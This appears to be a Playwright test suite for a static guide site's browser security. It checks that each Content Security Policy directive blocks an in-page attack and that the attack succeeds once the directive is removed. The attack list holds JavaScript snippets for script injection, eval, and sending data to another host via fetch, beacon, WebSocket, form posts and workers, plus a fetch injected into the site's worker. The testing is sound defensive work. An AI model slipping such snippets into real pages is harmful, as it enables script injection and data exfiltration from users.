"""What a browser keeps a page from: attacks that succeed once the guard is taken away."""

import json
import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.browser.driver import Driver, search
from tests.browser.operators import FIRST, LIKELY, PLACE
from tests.browser.serving import Folder, serving
from tests.browser.windows import PATIENCE

pytestmark = pytest.mark.browser

HOME, WIZARD = f"{PLACE}/index.html", f"{PLACE}/wizard/index.html"
WORKER = f"{PLACE}/javascripts/engine/worker.js"
MANIFEST = re.compile(r'(?P<before><link rel="manifest" href=")[^"]*')
SECONDS = PATIENCE / 1000
LATER = "later.html"
EVERYTHING = "* data: blob: 'unsafe-inline' 'unsafe-eval'"
WATCH = """
window.stopped = [];
document.addEventListener("securitypolicyviolation", (event) => stopped.push(event.blockedURI));
const make = (name, has) => document.body.append(Object.assign(document.createElement(name), has));
"""
STORED = """async () => ({
  local: { ...localStorage },
  session: { ...sessionStorage },
  cookie: document.cookie,
  bases: await indexedDB.databases(),
  caches: await caches.keys(),
  name: window.name,
  title: document.title,
  address: location.href,
})"""


@dataclass(frozen=True, slots=True)
class Attack:
    """What a script in the page tries: to reach ``other``, or to set ``window.ran``."""

    name: str
    directive: str
    tries: str


ATTACKS = (
    Attack("inline-script", "script-src", 'make("script", { textContent: "window.ran = 1" })'),
    Attack("foreign-script", "script-src", 'make("script", { src: other })'),
    Attack("text-run-as-code", "script-src", 'eval("window.ran = 1")'),
    Attack("function-of-text", "script-src", 'new Function("window.ran = 1")()'),
    Attack(
        "handler-in-markup",
        "script-src",
        """make("p", { innerHTML: "<b onclick='window.ran = 1'>" });
        document.body.lastChild.firstChild.click()""",
    ),
    Attack(
        "link-to-code",
        "script-src",
        'make("a", { href: "javascript:void(window.ran = 1)" }); document.body.lastChild.click()',
    ),
    Attack("foreign-style", "style-src", 'make("link", { rel: "stylesheet", href: other })'),
    Attack(
        "inline-style",
        "style-src",
        """make("style", { textContent: "body { --ran: 1 }" });
        window.ran = getComputedStyle(document.body).getPropertyValue("--ran")""",
    ),
    Attack(
        "style-in-markup",
        "style-src",
        """make("p", { innerHTML: "<b style='--ran: 1'>" });
        window.ran = document.body.lastChild.firstChild.style.getPropertyValue("--ran")""",
    ),
    Attack("foreign-image", "img-src", 'make("img", { src: other })'),
    Attack("fetch", "connect-src", 'fetch(other, { mode: "no-cors" }).catch(() => {})'),
    Attack(
        "request",
        "connect-src",
        'const asks = new XMLHttpRequest(); asks.open("GET", other); asks.send()',
    ),
    Attack("socket", "connect-src", 'new WebSocket(other.replace("http", "ws"))'),
    Attack("stream", "connect-src", "new EventSource(other)"),
    Attack("beacon", "connect-src", 'navigator.sendBeacon(other, "answers")'),
    Attack(
        "ping",
        "connect-src",
        'make("a", { href: "#", ping: other }); document.body.lastChild.click()',
    ),
    Attack(
        "worker-of-text",
        "worker-src",
        "new Worker('data:text/javascript,postMessage(1)').onmessage = () => (window.ran = 1)",
    ),
    Attack(
        "worker-that-sends",
        "connect-src",
        """const sends = `fetch("${other}", { mode: "no-cors" }).catch(() => postMessage("no"))`;
        const text = new Blob([sends], { type: "text/javascript" });
        new Worker(URL.createObjectURL(text)).onmessage = ({ data }) => stopped.push(data)""",
    ),
    Attack(
        "form", "form-action", 'make("form", { action: other }); document.body.lastChild.submit()'
    ),
    Attack(
        "posted-form",
        "form-action",
        'make("form", { action: other, method: "post" }); document.body.lastChild.submit()',
    ),
    Attack(
        "base",
        "base-uri",
        'make("base", { href: other }); window.ran = document.baseURI.startsWith(other)',
    ),
    Attack("frame", "default-src", 'make("iframe", { src: other })'),
    Attack("object", "default-src", 'make("object", { data: other })'),
    Attack("embedded", "default-src", 'make("embed", { src: other })'),
    Attack("sound", "default-src", 'make("audio", { src: other, preload: "auto" })'),
    Attack("font", "default-src", "new FontFace('x', `url(${other})`).load().catch(() => {})"),
    Attack("prefetched", "default-src", 'make("link", { rel: "prefetch", href: other })'),
)


@pytest.fixture
def other() -> Iterator[Folder]:
    """Serve next to nothing at another address, and keep what is asked of it."""
    with serving({LATER: b"<title>Later</title>"}) as folder:
        yield folder


def without(policy: str, directive: str) -> str:
    """Take a directive out of a page's policy; none falls back to another that forbids the same.

    >>> without("default-src 'none'; img-src 'self'", "img-src")
    "default-src 'none'; img-src * data: blob: 'unsafe-inline' 'unsafe-eval'"
    """
    if directive in ("base-uri", "form-action", "frame-ancestors"):
        return re.sub(rf"; {directive} [^;\"]*", "", policy)
    return re.sub(rf"\b{directive} [^;\"]*", f"{directive} {EVERYTHING}", policy)


def attacked(site: Mapping[str, bytes], attack: Attack, address: str) -> dict[str, bytes]:
    """Put a script that attacks into the guide's first page, as a file of the guide's own."""
    tries = f"window.attack = () => {{ try {{ {attack.tries} }} catch {{}} }}"
    script = f'const other = "{address}x";\n{WATCH}\n{tries}\n'
    page = site[HOME].replace(b"</body>", b'<script src="/attack.js"></script></body>')
    return {**site, "attack.js": script.encode(), HOME: page}


def reaches(page: Page, other: Folder, attack: Attack) -> bool:
    """Start the attack, which nothing stops; tell whether it does what it tries."""
    # Run from a timer, it is the page's own doing, and not that of whoever drives the browser.
    page.evaluate("void setTimeout(attack)")
    if "window.ran" in attack.tries:
        return bool(page.wait_for_function("() => window.ran").json_value())
    return other.came.wait(SECONDS)


def is_stopped(page: Page, other: Folder) -> bool:
    """Start the attack, and tell whether it is stopped before it does anything."""
    page.evaluate("void setTimeout(attack)")
    page.wait_for_function("() => stopped.length || window.ran")
    return not page.evaluate("window.ran") and not asked_by_now(page, other)


def asked_by_now(page: Page, other: Folder) -> bool:
    """Tell whether the browser asked anything of the other address, before it is sent there."""
    later = page.context.new_page()
    later.goto(f"{other.address}{LATER}")
    later.close()
    return other.asked[0] != LATER


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_an_attack_is_stopped_by_its_directive(
    window: Page, site: dict[str, bytes], other: Folder, attack: Attack
) -> None:
    """By that one: with it taken out of the page, the same attack succeeds."""
    files = attacked(site, attack, other.address)
    open_to = without(files[HOME].decode(), attack.directive).encode()
    assert open_to != files[HOME]
    with serving(files) as folder:
        window.goto(f"{folder.address}{PLACE}/")
        assert is_stopped(window, other)
    other.forget()
    with serving({**files, HOME: open_to}) as folder:
        window.goto(f"{folder.address}{PLACE}/")
        assert reaches(window, other, attack)


@pytest.mark.parametrize(("guarded", "reached"), [(True, False), (False, True)])
def test_a_manifest_is_the_guides_own(
    window: Page, site: dict[str, bytes], other: Folder, *, guarded: bool, reached: bool
) -> None:
    """One at another host is not asked for, whoever put it into the page."""
    page, many = MANIFEST.subn(rf"\g<before>{other.address}x", site[HOME].decode())
    assert many == 1
    policed = page if guarded else without(page, "manifest-src")
    with serving({**site, HOME: policed.encode()}) as folder:
        window.goto(f"{folder.address}{PLACE}/")
        # A page does not ask for it by itself; what can be installed is looked at by the browser.
        window.context.new_cdp_session(window).send("Page.getAppManifest")
        assert (asked_by_now(window, other) if guarded else other.came.wait(SECONDS)) is reached


@pytest.mark.parametrize(("sent", "shown"), [(True, False), (False, True)])
def test_no_other_site_frames_a_page(
    window: Page, site: dict[str, bytes], headers: Mapping[str, str], *, sent: bool, shown: bool
) -> None:
    """Where the host sends the headers; a page cannot say it itself."""
    with serving(site, headers if sent else {}) as folder:
        frame = f'<iframe src="{folder.address}{PLACE}/"></iframe>'.encode()
        with serving({"index.html": frame}) as framing:
            window.goto(framing.address)
            framed = window.frames[1].locator(".md-header").count() > 0
    assert framed is shown


@pytest.mark.parametrize(("guarded", "reached"), [(True, False), (False, True)])
def test_the_page_binds_its_worker(
    window: Page, site: dict[str, bytes], other: Folder, *, guarded: bool, reached: bool
) -> None:
    """Whatever the host sends: the worker is the page's own, and has the page's policy."""
    attack = f'fetch("{other.address}", {{ mode: "no-cors" }}).catch(() => {{}});\n'.encode()
    page = site[WIZARD] if guarded else without(site[WIZARD].decode(), "connect-src").encode()
    with serving({**site, WORKER: attack + site[WORKER], WIZARD: page}) as folder:
        # What follows in the worker's script asks for the engine, whatever becomes of the attack.
        with window.expect_response("**/engine/*/rulebook.*.json"):
            window.goto(f"{folder.address}{PLACE}/wizard/")
        assert (asked_by_now(window, other) if guarded else other.came.wait(SECONDS)) is reached


def test_the_search_works_under_the_policy(window: Page, hosted: Folder) -> None:
    """Its worker is the theme's own."""
    window.goto(f"{hosted.address}{PLACE}/")
    assert search(window, FIRST.id).startswith(hosted.address)


def answered(page: Page, hosted: Folder) -> Driver:
    """Open the wizard, and answer as the first programme's likely example does."""
    driver = Driver(page)
    driver.open(f"{hosted.address}{PLACE}/")
    driver.choose(FIRST.id, LIKELY.as_of.isoformat())
    driver.answer(LIKELY.answers)
    assert driver.outcome(FIRST.id) == ("likely", None)
    return driver


def test_a_journey_sends_nothing(window: Page, hosted: Folder) -> None:
    """Once the engine is there, not even to the guide's own host; the form leads nowhere."""
    requests: list[str] = []
    Driver(window).open(f"{hosted.address}{PLACE}/")
    window.on("request", lambda request: requests.append(request.url))
    driver = Driver(window)
    driver.choose(FIRST.id, LIKELY.as_of.isoformat())
    driver.answer(LIKELY.answers)
    assert driver.outcome(FIRST.id) == ("likely", None)
    assert requests == []


@pytest.mark.parametrize("name", ["RTCPeerConnection", "WebTransport"])
def test_what_no_policy_forbids_no_script_does(site: Mapping[str, bytes], name: str) -> None:
    """To speak to another browser, or past what a policy names: the runtime and the theme, too."""
    scripts = {path for path in site if path.endswith(".js")}
    assert any(path.endswith("/pyodide.js") for path in scripts)
    assert [path for path in scripts if name.encode() in site[path]] == []


def test_answers_are_in_no_address_and_in_no_store(window: Page, hosted: Folder) -> None:
    """Address, title, history, storage and cookies are after the journey as they were before."""
    driver = Driver(window)
    driver.open(f"{hosted.address}{PLACE}/")
    before = window.evaluate(STORED)
    driver.choose(FIRST.id, LIKELY.as_of.isoformat())
    states: list[Any] = []
    while not driver.result.is_visible():
        driver.answer_one(LIKELY.answers)
        states.append(window.evaluate("history.state"))
    assert window.evaluate(STORED) == before
    assert [json.dumps(each) for each in states] == [
        f'{{"place": {place}}}' for place in range(2, len(states) + 2)
    ]


def test_loading_the_page_again_forgets_the_answers(window: Page, hosted: Folder) -> None:
    """No answer stands in the summary, and no field is filled in."""
    answered(window, hosted)
    window.reload()
    Driver(window).wait_for("ready")
    expect(window.locator("[data-wizard=answers] > div")).to_have_count(0)
    expect(window.locator("[data-question] input:checked")).to_have_count(0)
    typed = "all => all.filter((field) => field.value !== '').length"
    assert window.locator("[data-question] [data-field]").evaluate_all(typed) == 0


def test_a_link_does_not_tell_where_the_reader_came_from(
    window: Page, site: dict[str, bytes]
) -> None:
    """Whether or not the host sends headers."""
    with serving({"index.html": b"<title>Law</title>"}) as law, serving(site) as folder:
        window.goto(f"{folder.address}{PLACE}/")
        link = "to => { const a = document.createElement('a'); a.href = to; document.body.append(a)"
        window.evaluate(f"{link}; a.click() }}", law.address)
        expect(window).to_have_title("Law")
        assert window.evaluate("document.referrer") == ""
